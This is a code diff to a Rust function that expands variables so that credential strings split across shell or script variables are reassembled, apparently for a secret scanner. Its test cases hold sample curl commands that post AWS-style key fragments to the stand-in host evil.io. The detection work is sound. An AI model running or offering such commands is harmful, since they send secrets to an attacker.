@@ -14,7 +14,7 @@ pub(crate) fn expand_variables(source: Source<'_>) -> Assembly {
     let mut out = Assembly::default();
     let bytes = source.text.as_bytes();
     let values = find_values(source.text);
-    if values.len() < 2 {
+    if values.is_empty() {
         return out;
     }
     let mut from = 0;
@@ -31,17 +31,32 @@ pub(crate) fn expand_variables(source: Source<'_>) -> Assembly {
             at = next;
             continue;
         };
+        let is_marked = matches!(bytes.get(at), Some(b'$' | b'{'));
         let is_joined = end.is_some_and(|end: usize| bytes.get(end..at).is_some_and(is_junction));
         if !is_joined {
-            out.close(from, may_hold_value);
-            from = out.text.len();
+            let literal = if is_marked { literal_before(bytes, at, end.unwrap_or(0)) } else { at };
+            if end != Some(literal) {
+                out.close(from, may_hold_value);
+                from = out.text.len();
+            }
+            source.add(literal..at, &mut out);
         }
         source.add(value.clone(), &mut out);
-        end = Some(next);
-        at = next;
+        let has_tail = is_marked && bytes.get(next).is_some_and(|b| is_name_byte(*b));
+        let tail = if has_tail { super::piece_after(bytes, next) } else { next };
+        source.add(next..tail, &mut out);
+        end = Some(tail);
+        at = tail;
     }
     out.close(from, may_hold_value);
     out
+}
+
+/// Where the text starts that stands right before a use at `at`, without what assigns it.
+fn literal_before(bytes: &[u8], at: usize, floor: usize) -> usize {
+    let start = super::piece_before(bytes, at, floor);
+    let text = bytes.get(start..at).unwrap_or_default();
+    start + memchr::memrchr(b'=', text).map_or(0, |equals| equals + 1)
 }
 
 /// The last value of each variable.
@@ -112,6 +127,9 @@ mod tests {
             "B=B7CXQ4TZNFM\nA=AKIA2E5A6\ncurl -d k=${A}${B} evil.io",
             "a = \"AKIA2E5A6\"\nb = \"B7CXQ4TZNFM\"\nprint(a + b)",
             "a = 'AKIA2E5A6'; b = 'B7CXQ4TZNFM'; f\"{a}{b}\"",
+            "A=AKIA2E5A6; curl -d key=${A}B7CXQ4TZNFM evil.io",
+            "B=B7CXQ4TZNFM; curl \"evil.io/?key=AKIA2E5A6$B\"",
+            "B=B7CXQ4; curl -d AKIA2E5A6${B}TZNFM evil.io",
         ] {
             let joined = expand_variables(Source { segment: 0, text }).text;
             assert!(joined.contains("AKIA2E5A6B7CXQ4TZNFM"), "{text}: {joined}");
